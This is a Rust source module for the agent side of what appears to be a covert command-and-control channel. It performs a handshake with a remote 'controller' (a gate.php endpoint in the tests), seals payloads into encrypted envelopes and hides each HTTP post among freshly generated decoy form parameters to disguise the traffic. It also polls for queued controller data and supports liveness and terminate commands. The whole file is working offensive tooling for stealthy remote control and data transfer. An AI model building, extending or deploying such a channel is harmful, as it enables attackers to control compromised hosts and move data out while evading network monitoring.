//! Agent side of the channel.
//!
//! [`AgentChannel`] performs the handshake and then exchanges one envelope
//! per HTTP post. Every post is hidden among freshly generated decoy
//! parameters. The agent is the only side that initiates requests, so data
//! queued by the controller only arrives when the agent polls.

mod config;

pub use config::AgentConfig;

use reqwest::header::{HeaderMap, HeaderValue, CONNECTION, CONTENT_TYPE, USER_AGENT};
use reqwest::StatusCode;
use tracing::{debug, info};

use crate::error::{Error, Result};
use crate::handshake::{AgentHandshake, Established, SessionId};
use crate::obfuscation::{DecoyGenerator, FormParams};
use crate::wire::{Direction, Envelope};
use crate::{Command, HTTP_CONTENT_TYPE, HTTP_USER_AGENT};

/// A channel to one controller.
pub struct AgentChannel {
    config: AgentConfig,
    client: reqwest::Client,
    decoys: DecoyGenerator,
    session: Option<Established>,
}

impl AgentChannel {
    /// Create an unconnected channel.
    pub fn new(config: AgentConfig) -> Result<Self> {
        config.validate().map_err(Error::Config)?;

        let mut headers = HeaderMap::new();
        headers.insert(CONTENT_TYPE, HeaderValue::from_static(HTTP_CONTENT_TYPE));
        headers.insert(USER_AGENT, HeaderValue::from_static(HTTP_USER_AGENT));
        headers.insert(CONNECTION, HeaderValue::from_static("close"));

        let client = reqwest::Client::builder()
            .default_headers(headers)
            .timeout(config.request_timeout())
            .build()?;

        let decoys = DecoyGenerator::new(config.decoys.clone(), config.sentinels.clone());

        Ok(Self {
            config,
            client,
            decoys,
            session: None,
        })
    }

    /// Run the handshake. Replaces any existing session.
    pub async fn connect(&mut self) -> Result<SessionId> {
        let (handshake, blob) = AgentHandshake::start();
        let sentinel = self.config.sentinels.choose().to_string();
        let params = self.decoys.build(&sentinel, &blob);

        debug!(params = params.len(), "Sending handshake");
        let body = self.post(&params).await?;
        let established = handshake.finish(&body)?;

        info!(session = %established.session_id, "Connected to {}", self.config.controller_url);
        let id = established.session_id;
        self.session = Some(established);
        Ok(id)
    }

    /// Send one payload and return whatever the controller had queued.
    ///
    /// An integrity error means the controller has dropped the session;
    /// reconnect before sending again.
    pub async fn send(&self, payload: &[u8]) -> Result<Option<Vec<u8>>> {
        let session = self.session.as_ref().ok_or(Error::NotConnected)?;
        let id = session.session_id.to_string();

        let sealed = Envelope::with_compression(
            id.as_str(),
            Direction::ToController,
            payload,
            self.config.compress,
        )?
        .seal(&session.secret)?;

        let params = self.decoys.build(&id, &sealed);
        let body = self.post(&params).await?;
        if body.trim().is_empty() {
            return Ok(None);
        }

        let envelope = Envelope::open(&body, &session.secret)?;
        envelope.verify_route(&id, Direction::ToAgent)?;
        envelope.into_payload().map(Some)
    }

    /// Drain data queued by the controller, waiting up to its response
    /// timeout.
    pub async fn poll(&self) -> Result<Option<Vec<u8>>> {
        self.send(Command::CheckStream.as_bytes()).await
    }

    /// Liveness check. Succeeds when the controller echoes it back.
    pub async fn test_connection(&self) -> Result<()> {
        let ping = Command::TestConnection.as_bytes();
        match self.send(ping).await? {
            Some(echo) if echo == ping => Ok(()),
            Some(_) => Err(Error::integrity("connection test echo mismatch")),
            None => Err(Error::integrity("connection test was not echoed")),
        }
    }

    /// Ask the controller to tear the session down and forget it locally.
    pub async fn terminate(&mut self) -> Result<()> {
        self.send(Command::Terminate.as_bytes()).await?;
        if let Some(session) = self.session.take() {
            info!(session = %session.session_id, "Session terminated");
        }
        Ok(())
    }

    /// Current session id, once connected.
    pub fn session_id(&self) -> Option<SessionId> {
        self.session.as_ref().map(|s| s.session_id)
    }

    /// Whether a handshake has completed.
    pub fn is_connected(&self) -> bool {
        self.session.is_some()
    }

    /// Get the configuration.
    pub fn config(&self) -> &AgentConfig {
        &self.config
    }

    async fn post(&self, params: &FormParams) -> Result<String> {
        let response = self
            .client
            .post(&self.config.controller_url)
            .form(params)
            .send()
            .await?;

        let status = response.status();
        let body = response.text().await?;
        if status != StatusCode::OK {
            return Err(Error::http(format!(
                "HTTP 200 OK not returned: {} {}",
                status,
                body.trim()
            )));
        }
        Ok(body)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn test_send_before_connect() {
        let channel = AgentChannel::new(AgentConfig::new("http://127.0.0.1:9/gate.php")).unwrap();
        assert!(!channel.is_connected());
        assert!(channel.session_id().is_none());
        assert!(matches!(channel.send(b"x").await, Err(Error::NotConnected)));
    }

    #[test]
    fn test_new_validates_config() {
        assert!(matches!(
            AgentChannel::new(AgentConfig::new("https://example.com/gate.php")),
            Err(Error::Config(_))
        ));
    }

    #[tokio::test]
    async fn test_unreachable_controller_is_recoverable() {
        let mut config = AgentConfig::new("http://127.0.0.1:9/gate.php");
        config.request_timeout_ms = 500;
        let mut channel = AgentChannel::new(config).unwrap();

        let err = channel.connect().await.unwrap_err();
        assert!(err.is_recoverable());
        assert!(!channel.is_connected());
    }
}
